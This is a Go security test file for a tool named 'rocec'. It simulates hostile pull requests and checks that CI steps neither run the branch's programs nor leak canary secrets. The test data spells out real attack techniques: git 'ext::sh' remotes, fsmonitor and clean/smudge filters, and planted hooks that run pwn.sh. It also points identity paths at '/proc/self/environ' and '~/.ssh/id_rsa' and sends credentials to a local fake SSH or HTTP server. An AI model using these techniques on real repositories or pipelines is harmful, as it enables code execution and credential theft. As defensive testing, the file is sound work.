package main

import (
	"context"
	"crypto/ed25519"
	"errors"
	"fmt"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.yaml.in/yaml/v3"
	"golang.org/x/crypto/ssh"
)

// branch is a repository of a stranger, who wants a program of his to run: whatever runs it leaves the file ran.
type branch struct {
	t        *testing.T
	dir, ran string
	fresh    string // its clone, as a runner or a reviewer has it
	env      []string
}

func newBranch(t *testing.T) *branch {
	t.Helper()
	top := t.TempDir()
	b := &branch{t: t, dir: filepath.Join(top, "branch"), ran: filepath.Join(top, "ran"), fresh: filepath.Join(top, "fresh")}
	b.env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + top, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.net", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.net",
	}
	if err := os.CopyFS(b.dir, os.DirFS("testdata/smb")); err != nil {
		t.Fatal(err)
	}
	b.git(b.dir, "init", "--quiet", "--initial-branch=main")
	return b
}

func (b *branch) git(dir string, args ...string) {
	b.t.Helper()
	c := exec.Command("git", args...)
	c.Dir, c.Env = dir, b.env
	if out, err := c.CombinedOutput(); err != nil {
		b.t.Fatalf("git %q: %v\n%s", args, err, out)
	}
}

func (b *branch) write(file, text string) {
	b.t.Helper()
	name := filepath.Join(b.dir, file)
	if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o755)); err != nil {
		b.t.Fatal(err)
	}
}

// program is one that leaves the file, with all that it was told.
func (b *branch) program(file string) {
	b.write(file, programOf(b.ran))
}

func programOf(ran string) string {
	return fmt.Sprintf("#!/bin/sh\n{ id; env; } >>'%s'\ntimeout 3 cat\nexit 0\n", ran)
}

// clone commits all and clones it.
func (b *branch) clone() {
	b.t.Helper()
	b.git(b.dir, "add", "--force", ".")
	b.git(b.dir, "commit", "--quiet", "--message", "innocent")
	b.git(filepath.Dir(b.dir), "clone", "--quiet", b.dir, b.fresh)
}

// rocec runs a command in a folder of the clone, and returns what it printed.
func (b *branch) rocec(folder string, args ...string) (string, error) {
	b.t.Helper()
	ctx, stop := context.WithTimeout(b.t.Context(), time.Minute) // a program may have been started, and wait
	defer stop()
	c := exec.CommandContext(ctx, "rocec", args...)
	c.Dir, c.Env, c.WaitDelay = filepath.Join(b.fresh, folder), b.env, time.Second
	out, err := c.CombinedOutput()
	if text, e := os.ReadFile(b.ran); e == nil {
		b.t.Errorf("rocec %q ran a program of the branch:\n%.600s", args, text)
		_ = os.Remove(b.ran)
	}
	return string(out), err
}

// embedded commits into a folder what git takes for a repository, with settings.
func (b *branch) embedded(folder, config string) {
	for name, text := range repositoryOf(config) {
		b.write(folder+"/"+name, text)
	}
}

func repositoryOf(config string) map[string]string {
	return map[string]string{
		"HEAD": "ref: refs/heads/main\n", "objects/info/k": "x\n", "refs/heads/k": "x\n",
		"config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n" + config,
	}
}

const recordBlock = "rocec {\n  record = { backend = \"git\", push = true%s }\n}\n"

// TestBranchRepository: files of a branch that look like a repository of git are none to any command.
func TestBranchRepository(t *testing.T) {
	t.Parallel()
	b := newBranch(t)
	b.write("rocec.roce.hcl", fmt.Sprintf(recordBlock, ""))
	b.program("record/pwn.sh")
	b.embedded("record", "[remote \"origin\"]\n\turl = ext::sh ./pwn.sh\n[protocol \"ext\"]\n\tallow = always\n")
	b.clone()
	for _, args := range [][]string{
		{"plan", "--refresh=false", "--lock=false"}, {"record", "list"}, {"apply", "--auto-approve"}, {"force-unlock", "x"}, {"plan", "--untrusted"},
	} {
		out, err := b.rocec(".", args...)
		if err == nil || !strings.Contains(out, "is in no work tree of git: files of the work tree look like a repository") && args[1] != "--untrusted" {
			t.Errorf("rocec %q: %v\n%s", args, err, out)
		}
	}
}

// TestBranchFilter: neither do its filters run where lint and plan compare with another revision.
func TestBranchFilter(t *testing.T) {
	t.Parallel()
	b := newBranch(t)
	fab := filepath.Join(b.dir, "fab")
	if err := os.CopyFS(fab, os.DirFS("testdata/smb")); err != nil {
		t.Fatal(err)
	}
	b.program("fab/pwn.sh")
	b.write("fab/.gitattributes", "*.hcl filter=e\n")
	b.git(fab, "init", "--quiet", "--bare", ".")
	b.git(fab, "config", "--file", "config", "core.bare", "false")
	b.git(fab, "config", "--file", "config", "core.worktree", ".")
	b.git(fab, "--git-dir=.", "--work-tree=.", "add", "--force", ".gitattributes", "fabric.roce.hcl")
	b.git(fab, "--git-dir=.", "--work-tree=.", "commit", "--quiet", "--message", "base")
	b.git(fab, "--git-dir=.", "update-ref", "refs/remotes/origin/main", "HEAD")
	for _, verb := range []string{"clean", "smudge"} {
		b.git(fab, "config", "--file", "config", "filter.e."+verb, "sh '"+filepath.Join(b.fresh, "fab", "pwn.sh")+"'")
	}
	b.clone()
	for _, args := range [][]string{
		{"lint", "--format=github", "--output=sarif=x.sarif", "--new-from-rev=origin/main", "--", "fab"},
		{"--chdir=fab", "plan", "--against=origin/main"},
		{"--chdir=fab", "lint", "--new-from-rev=HEAD"},
	} {
		out, err := b.rocec(".", args...)
		if err == nil || !strings.Contains(out, "look like a repository of git") {
			t.Errorf("rocec %q: %v\n%s", args, err, out)
		}
	}
}

// TestBranchHooks: a remote in the checkout, whose hooks are the branch's, is none; nor do hooks run that the user's own
// settings look for in the checkout. The remote that the user has goes on to work, in a folder as well.
func TestBranchHooks(t *testing.T) {
	t.Parallel()
	b := newBranch(t)
	b.write("rocec.roce.hcl", fmt.Sprintf(recordBlock, `, remote = "./evil.git", branch = "rocec-record"`))
	b.git(b.dir, "init", "--quiet", "--bare", "evil.git")
	b.write("evil.git/refs/heads/k", "")
	b.write("evil.git/objects/pack/k", "")
	for _, hook := range []string{"pre-receive", "update", "post-update", "reference-transaction"} {
		b.program("evil.git/hooks/" + hook)
		b.program("hooks/" + hook)
	}
	b.program("hooks/pre-push")
	b.clone()
	out, err := b.rocec(".", "apply", "--auto-approve", "--refresh=false")
	if err == nil || !strings.Contains(out, `remote "./evil.git" is neither the name of a remote that git knows here nor an address over a network`) ||
		!strings.Contains(out, "rocec.roce.hcl") {
		t.Errorf("%v\n%s", err, out)
	}
	b.git(b.fresh, "config", "core.hooksPath", "hooks")
	if err := os.WriteFile(filepath.Join(b.fresh, "rocec.roce.hcl"), fmt.Appendf(nil, recordBlock, `, branch = "rocec-record"`), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := b.rocec(".", "apply", "--auto-approve", "--refresh=false"); err != nil {
		t.Errorf("the user's own remote: %v\n%s", err, out)
	}
	b.git(b.dir, "rev-parse", "--verify", "refs/heads/rocec-record")
}

// TestRecordFolder: a record is kept inside of the checkout, links included, and in no other repository of it.
func TestRecordFolder(t *testing.T) {
	t.Parallel()
	for source, backend := range map[string]string{"../out": "local", "link": "local", "link/deeper": "git", "nested/record": "git"} {
		b := newBranch(t)
		b.write("rocec.roce.hcl", fmt.Sprintf("rocec {\n  record = { backend = %q, source = %q }\n}\n", backend, source))
		if err := os.Symlink("../out", filepath.Join(b.dir, "link")); err != nil {
			t.Fatal(err)
		}
		b.clone()
		out := filepath.Join(filepath.Dir(b.dir), "out")
		if err := os.MkdirAll(out, 0o755); err != nil {
			t.Fatal(err)
		}
		b.git(filepath.Dir(b.dir), "init", "--quiet", filepath.Join(b.fresh, "nested"))
		said, err := b.rocec(".", "apply", "--auto-approve")
		if err == nil || !strings.Contains(said, "leads out of the checkout") && !strings.Contains(said, "in another work tree of git") {
			t.Errorf("%s: %v\n%s", source, err, said)
		}
		if list, _ := os.ReadDir(out); len(list) > 0 {
			t.Errorf("%s: written there: %v", source, list)
		}
	}
}

// stranger is a computer that no revision which somebody has looked at names. It serves SSH, with a key of its own,
// and keeps what it is told.
type stranger struct {
	net.Listener
	key  ssh.Signer
	met  atomic.Int64
	told sync.Map // passwords
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	s := &stranger{Listener: l}
	if s.key, err = ssh.NewSignerFromKey(key); err != nil {
		t.Fatal(err)
	}
	config := &ssh.ServerConfig{PasswordCallback: func(_ ssh.ConnMetadata, word []byte) (*ssh.Permissions, error) {
		s.told.Store(string(word), true)
		return nil, errors.New("no")
	}}
	config.AddHostKey(s.key)
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.met.Add(1)
			go func() {
				_, _, _, _ = ssh.NewServerConn(c, config)
				_ = c.Close()
			}()
		}
	}()
	return s
}

func (s *stranger) port() int { return s.Addr().(*net.TCPAddr).Port }

// canary is a secret of the pipeline, under names that source may and may not read.
const canary = "canary-3b1f0c"

// How the example reaches its devices, and how a stranger would have it.
const (
	theirs = "address      = \"${self.name}.oob.example.net\"\n  user         = \"rocec\"\n  password_env = \"ROCEC_FABRIC_PASSWORD\""
	to     = "address = \"127.0.0.1\"\n  user = \"rocec\"\n  port = PORT\n  host_key = \"KEY\"\n  "
)

// pullRequests are those of strangers; PORT and KEY are of a computer of theirs.
var pullRequests = map[string]struct {
	old, new string                        // of fabric.roce.hcl
	more     func(p *pipeline, ran string) // files beside it
	folder   string                        // of the fabric
	fails    bool                          // the plan cannot be made, and says why
	link     string                        // one to a secret outside
}{
	"a program": {
		old: theirs, new: to + `password_command = ["sh", "pwn.sh"]`, more: func(p *pipeline, ran string) { p.program("pwn.sh", ran) },
	},
	"an address":      {old: theirs, new: to + `password_env = "ROCEC_FABRIC_PASSWORD"`},
	"another secret":  {old: theirs, new: to + `password_env = "DEPLOY_TOKEN"`},
	"a key of others": {old: theirs, new: to + `identity = ["/proc/self/environ", "~/.ssh/id_rsa"]`},
	"a server for the record": {
		old: "backend = \"git\"\n    push    = true\n    branch  = \"rocec-record\"", fails: true,
		new: `backend = "http"` + "\n" + `address = "http://127.0.0.1:PORT/state"` + "\n" + `username_env = "ROCEC_FABRIC_PASSWORD"` + "\n" + `password_env = "ROCEC_FABRIC_PASSWORD"`,
	},
	"a server without secrets": {
		old: "backend = \"git\"\n    push    = true\n    branch  = \"rocec-record\"", fails: true,
		new: `backend = "http"` + "\n" + `address = "http://127.0.0.1:PORT/state"`,
	},
	"a bucket": {
		old: "backend = \"git\"\n    push    = true\n    branch  = \"rocec-record\"", fails: true,
		new: `backend = "s3"` + "\n" + `bucket = "b"` + "\n" + `endpoint = "http://127.0.0.1:PORT"` + "\n" + `path_style = true`,
	},
	"a remote elsewhere": {old: `push    = true`, new: "push = true\n    remote = \"http://127.0.0.1:PORT/x.git\"", fails: true},
	"a remote that is a program": {
		old: `push    = true`, new: "push = true\n    remote = \"ext::sh ./pwn.sh\"", fails: true, more: func(p *pipeline, ran string) { p.program("pwn.sh", ran) },
	},
	"a remote in the checkout": {
		old: `push    = true`, new: "push = true\n    remote = \"./evil.git\"", fails: true,
		more: func(p *pipeline, ran string) {
			p.git("init", "--quiet", "--bare", "evil.git")
			p.program("evil.git/hooks/pre-receive", ran)
			p.program("evil.git/hooks/reference-transaction", ran)
		},
	},
	"a repository for the record": {
		old: `push    = true`, new: "push = true\n    source = \"kept\"", fails: true,
		more: func(p *pipeline, ran string) {
			p.program("pwn.sh", ran)
			p.embedded("kept", "[remote \"origin\"]\n\turl = ext::sh ../pwn.sh\n[protocol \"ext\"]\n\tallow = always\n[core]\n\tfsmonitor = sh ../pwn.sh\n")
		},
	},
	"a repository around the fabric": {
		folder: "fab", fails: true,
		more: func(p *pipeline, ran string) {
			p.program("fab/pwn.sh", ran)
			p.embedded("fab", "\tfsmonitor = sh ./pwn.sh\n[filter \"e\"]\n\tclean = sh ./pwn.sh\n\tsmudge = sh ./pwn.sh\n")
		},
	},
	"a link to a secret":     {fails: true, link: "a.roce.hcl"},
	"settings that are one":  {link: ".rocec.hcl"},
	"a baseline that is one": {link: "kept.json", more: func(p *pipeline, _ string) { p.file(".rocec.hcl", "lint { baseline = \"kept.json\" }\n") }},
	"a baseline elsewhere":   {more: func(p *pipeline, _ string) { p.file(".rocec.hcl", "lint { baseline = \""+p.secret+"\" }\n") }},
	"a function that reads": {
		old: "default     = 60", new: "default     = length(file(\"SECRET\"))", fails: true,
	},
	"working data": {
		fails: true, more: func(p *pipeline, _ string) { p.file(".rocec/journal/default/x.ndjson", "{}\n") },
	},
	"a record elsewhere": {
		old: "backend = \"git\"\n    push    = true\n    branch  = \"rocec-record\"", new: `source = "../out"`, fails: true,
	},
}

func (p *pipeline) file(name, text string) {
	p.t.Helper()
	name = filepath.Join(p.repo, name)
	if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o755)); err != nil {
		p.t.Fatal(err)
	}
}

func (p *pipeline) program(name, ran string) { p.file(name, programOf(ran)) }

func (p *pipeline) embedded(folder, config string) {
	for name, text := range repositoryOf(config) {
		p.file(folder+"/"+name, text)
	}
}

// TestHostilePullRequest runs every step that the workflow, the action and the template have for a pull request on a
// fresh clone of each: no program of the branch runs, no secret is seen, nobody is asked whom the base does not name.
func TestHostilePullRequest(t *testing.T) {
	t.Parallel()
	w := workflows(t)
	for name, h := range pullRequests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, them := newPipeline(t), newStranger(t)
			top := filepath.Dir(p.repo)
			ran := filepath.Join(top, "ran")
			p.env = append(p.env, "ROCEC_FABRIC_PASSWORD="+canary, "AWS_SECRET_ACCESS_KEY="+canary, "DEPLOY_TOKEN="+canary, "AWS_ACCESS_KEY_ID="+canary)
			if h.folder != "" {
				if err := os.CopyFS(filepath.Join(p.repo, h.folder), os.DirFS(gitopsDir)); err != nil {
					t.Fatal(err)
				}
			}
			p.secret = filepath.Join(t.TempDir(), "credentials")
			text := "credentials \"x\" {\n token = \"" + canary + "\"\n}\n"
			if err := os.WriteFile(p.secret, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
			if h.link != "" {
				if err := os.Symlink(p.secret, filepath.Join(p.repo, h.link)); err != nil {
					t.Fatal(err)
				}
			}
			if h.more != nil {
				h.more(p, ran)
			}
			if h.old != "" {
				p.replace("fabric.roce.hcl", h.old, strings.NewReplacer("PORT", strconv.Itoa(them.port()), "KEY", ssh.FingerprintSHA256(them.key.PublicKey()), "SECRET", p.secret).Replace(h.new))
			}
			p.git("add", "--all", "--force")
			p.git("commit", "--quiet", "--message", "innocent")
			p.git("push", "--quiet", "origin", "HEAD:evil")
			fresh := filepath.Join(top, "fresh")
			p.git("clone", "--quiet", "--branch=evil", filepath.Join(top, "origin.git"), fresh)
			p.repo = fresh
			p.env = append(p.env, "GITHUB_WORKSPACE="+fresh)

			if h.folder == "" {
				p.run(w["pull-request.yml"])
			}
			for _, with := range []map[string]string{
				{"command": "fmt"},
				{"command": "lint", "args": "--new-from-rev=origin/main"},
				{"command": "validate"},
				{"command": "test"},
				{"command": "plan"},
				{"command": "verify"},
				{"command": "apply"},
				{"command": "plan", "args": "--lock-timeout=1s"},
			} {
				with["working-directory"] = h.folder
				_, err := p.composite(with, nil)
				if reaches := with["command"] == "apply" || with["command"] == "verify"; reaches && err == nil || with["command"] == "plan" && (err != nil) != h.fails {
					t.Errorf("%v: %v\n%s", with, err, &p.log)
				}
			}
			if failed := p.gitlab(h.folder); slices.Contains(failed, "rocec-plan") != h.fails {
				t.Errorf("of the template failed %q\n%s", failed, &p.log)
			}
			them.told.Range(func(word, _ any) bool {
				t.Errorf("the stranger was told %q", word)
				return true
			})
			if text, err := os.ReadFile(ran); err == nil {
				t.Errorf("a program of the branch ran:\n%.600s", text)
			}
			if them.met.Load() > 0 {
				t.Errorf("the stranger was asked %d times\n%s", them.met.Load(), &p.log)
			}
			seen := p.log.String() + p.summary
			err := filepath.WalkDir(top, func(path string, d os.DirEntry, err error) error {
				if err == nil && d.Type().IsRegular() {
					text, bad := os.ReadFile(path)
					seen, err = seen+string(text), bad
				}
				return err
			})
			if err != nil || strings.Contains(seen, canary) {
				t.Errorf("a secret was seen, %v\n%s", err, &p.log)
			}
			if out, _ := os.ReadDir(filepath.Join(top, "out")); len(out) > 0 {
				t.Errorf("written outside: %v", out)
			}
			if now, err := os.ReadFile(p.secret); err != nil || string(now) != text {
				t.Errorf("written outside, %v: %s", err, now)
			}
		})
	}
}

// gitlab runs what the template has for a merge request, as a runner does: with the variables of the job and of those it
// extends. It returns those that failed.
func (p *pipeline) gitlab(folder string) (failed []string) {
	p.t.Helper()
	type job struct {
		Extends   string
		Script    []string
		Variables map[string]string
	}
	top := parsed[map[string]yaml.Node](p.t, gitlabFile)
	jobs := map[string]job{}
	for name, node := range top {
		var j job
		if node.Kind == yaml.MappingNode && name != "variables" {
			if err := node.Decode(&j); err != nil {
				p.t.Fatal(err)
			}
		}
		jobs[name] = j
	}
	var common map[string]string
	node := top["variables"]
	if err := node.Decode(&common); err != nil {
		p.t.Fatal(err)
	}
	if folder != "" {
		common["ROCEC_FOLDER"] = folder
	}
	ran := 0
	for _, name := range slices.Sorted(maps.Keys(jobs)) {
		j := jobs[name]
		if j.Extends != ".rocec-change" {
			continue
		}
		ran++
		env := map[string]string{"CI_PROJECT_DIR": p.repo, "CI_MERGE_REQUEST_DIFF_BASE_SHA": strings.TrimSpace(p.git("-C", p.repo, "rev-parse", "origin/main"))}
		for _, list := range []map[string]string{common, jobs[jobs[j.Extends].Extends].Variables, jobs[j.Extends].Variables, j.Variables} {
			for k, v := range list {
				env[k] = strings.ReplaceAll(v, "$CI_MERGE_REQUEST_DIFF_BASE_SHA", env["CI_MERGE_REQUEST_DIFF_BASE_SHA"])
			}
		}
		if _, err := p.script(&step{Run: strings.Join(j.Script, "\n")}, nil, env); err != nil {
			fmt.Fprintf(&p.log, "%s: %v\n", name, err)
			failed = append(failed, name)
		}
	}
	if ran < 5 {
		p.t.Errorf("%d jobs of a merge request", ran)
	}
	return failed
}

// TestPermitted: what a connection and a record name of the environment and of programs, and who has to allow it; said
// once, at its line.
func TestPermitted(t *testing.T) {
	const source = `
defaults "node" { connection = connection.hosts }
connection "hosts" {
  %s
  jump = connection.gate
}
connection "gate" {
  address          = "gate.example.net"
  password_command = ["pass", "show", "gate"]
}
node "a" { os = "ubuntu/24.04" }
node "b" { os = "ubuntu/24.04" }
`
	for _, c := range []struct {
		attribute string
		env       []string
		wants     []string
	}{
		{`password_env = "ROCEC_P"`, []string{"ROCEC_ALLOW_COMMANDS=pass"}, nil},
		{`password_env = "TOKEN"`, []string{"ROCEC_ALLOW_COMMANDS=vault, pass", "ROCEC_ALLOW_ENV=A,TOKEN"}, nil},
		{`password_env = "TOKEN"`, []string{"ROCEC_ALLOW_COMMANDS=pass", "ROCEC_ALLOW_ENV=TOK"}, []string{"password_env of connection.hosts names the variable TOKEN, which source may not read"}},
		{`enable_env = "TOKEN"`, []string{"ROCEC_ALLOW_COMMANDS=pass"}, []string{"enable_env of connection.hosts names the variable TOKEN, which source may not read"}},
		{`password_command = ["./pass"]`, []string{"ROCEC_ALLOW_COMMANDS=pass"}, []string{`connection.hosts would run the program "./pass", which source may not run`}},
		{`port = 22`, nil, []string{`connection.gate would run the program "pass", which source may not run`}},
		{`port = 22`, []string{"ROCEC_ALLOW_COMMANDS=pass", "ROCEC_UNTRUSTED=1"}, []string{"no session to a is opened with --untrusted", "no session to b is opened with --untrusted"}},
	} {
		p := loaded(t, fmt.Sprintf(source, c.attribute), c.env...)
		var got []string
		before := map[string]bool{}
		for _, name := range []string{"a", "b"} {
			_, found := p.spec(p.named(t, name))
			for _, d := range unsaid(found, before) {
				got = append(got, d.Summary)
				if len(d.Labels) != 1 || d.Labels[0].Span.IsZero() {
					t.Errorf("%s: not at a line: %+v", d.Summary, d.Labels)
				}
			}
		}
		if diff := cmp.Diff(c.wants, got); diff != "" {
			t.Errorf("%s %q\n-want +got\n%s", c.attribute, c.env, diff)
		}
	}
}

// TestUntrustedRefuses: what reaches outside is refused, and only no word for no switches it off.
func TestUntrustedRefuses(t *testing.T) {
	t.Parallel()
	b := newBranch(t)
	b.clone()
	for _, args := range [][]string{{"apply", "--auto-approve"}, {"confirm"}, {"rollback"}, {"force-unlock", "x"}, {"lab", "up"}, {"lab", "fault", "tor=drop"}} {
		if out, err := b.rocec(".", append(args, "--untrusted")...); err == nil || !strings.Contains(out, args[0]+" does not go with --untrusted") {
			t.Errorf("rocec %q: %v\n%s", args, err, out)
		}
	}
	for set, refused := range map[string]bool{"1": true, "true": true, "yes": true, "off": true, "0": false, "false": false, "": false} {
		b.env = append(b.env, "ROCEC_UNTRUSTED="+set)
		out, _ := b.rocec(".", "force-unlock", "x")
		if strings.Contains(out, "does not go with --untrusted") != refused {
			t.Errorf("ROCEC_UNTRUSTED=%s: %s", set, out)
		}
	}
	b.env = append(b.env, "ROCEC_UNTRUSTED=1")
	if out, _ := b.rocec(".", "--untrusted=false", "force-unlock", "x"); strings.Contains(out, "does not go") {
		t.Errorf("the line does not win: %s", out)
	}
	// What needs nothing from outside works as ever.
	for _, args := range [][]string{{"validate"}, {"lint"}, {"build", "--out-dir=out"}, {"plan"}, {"plan", "--against=HEAD"}, {"record", "list"}, {"explain", "switch.tor"}} {
		out, err := b.rocec(".", args...)
		if err != nil || args[0] == "plan" && len(args) == 1 && !strings.Contains(out, "Left out, for the source is not trusted") {
			t.Errorf("rocec %q: %v\n%s", args, err, out)
		}
	}
}

// TestSecurityPage: the page has each command among those that are safe on an unreviewed branch or among those that are
// refused there, and each variable by which somebody allows something.
func TestSecurityPage(t *testing.T) {
	text, err := os.ReadFile("../../docs/security.md")
	if err != nil {
		t.Fatal(err)
	}
	_, rest, _ := strings.Cut(string(text), "These commands may run on the branch of a stranger")
	safe, rest, _ := strings.Cut(rest, "With `--untrusted`\n")
	_, rest, _ = strings.Cut(rest, "is not asked;\n")
	refusals, _, ok := strings.Cut(rest, " are refused.")
	if !ok {
		t.Fatal("the page has other lists")
	}
	for _, c := range newApp(strings.NewReader(""), &strings.Builder{}, &strings.Builder{}, nil).root().Commands() {
		name, list := "`"+c.Name(), safe
		if slices.Contains(reaching, c.Name()) {
			list = refusals
		}
		if c.Runnable() || c.HasSubCommands() {
			if exempt := []string{"docs", "help", "completion"}; !strings.Contains(list, name) && !slices.Contains(exempt, c.Name()) && !c.Hidden {
				t.Errorf("the page does not say of %s whether it is safe", c.Name())
			}
		}
	}
	for _, name := range []string{allowEnv, allowCommands, untrustedEnv, baseEnv} {
		if !strings.Contains(string(text), "`"+name) {
			t.Errorf("the page has no %s", name)
		}
	}
}
